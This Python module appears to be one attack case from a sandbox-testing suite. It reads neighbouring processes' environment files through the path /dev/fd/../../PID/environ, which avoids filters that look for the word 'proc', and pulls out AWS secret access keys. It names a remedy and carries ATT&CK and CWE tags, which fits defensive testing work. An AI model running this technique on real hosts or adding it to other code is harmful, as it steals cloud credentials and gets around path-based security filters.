# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past any filter that looks for "proc" in a path.
Means: /dev/fd is a link to /proc/self/fd, so /dev/fd/../.. is /proc, and the word never occurs.
"""

from attack import DONE, attempting, denied, loot, neighbours


def credential(path):
    """The credential in an environ file, or None."""
    with open(path, "rb") as file:
        for entry in file.read().split(b"\0"):
            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
                return entry
    return None


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            found = credential(f"/dev/fd/../../{pid}/environ")
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("/dev/fd/../../PID/environ", why)


ATTACK = {
    "effect": "the worker's environment is read through /proc",
    "means": "/dev/fd/../../PID/environ, which does not contain the word proc",
    "oracle": "secret:environ",
    "quick": True,
    "id": "PROC-06",
    "attack_id": "T1057, T1003.007, CWE-22",
    "remedy": "Landlock without /proc, which judges the file and not its name",
    "refs": ["proc(5)"],
    "run": run,
}
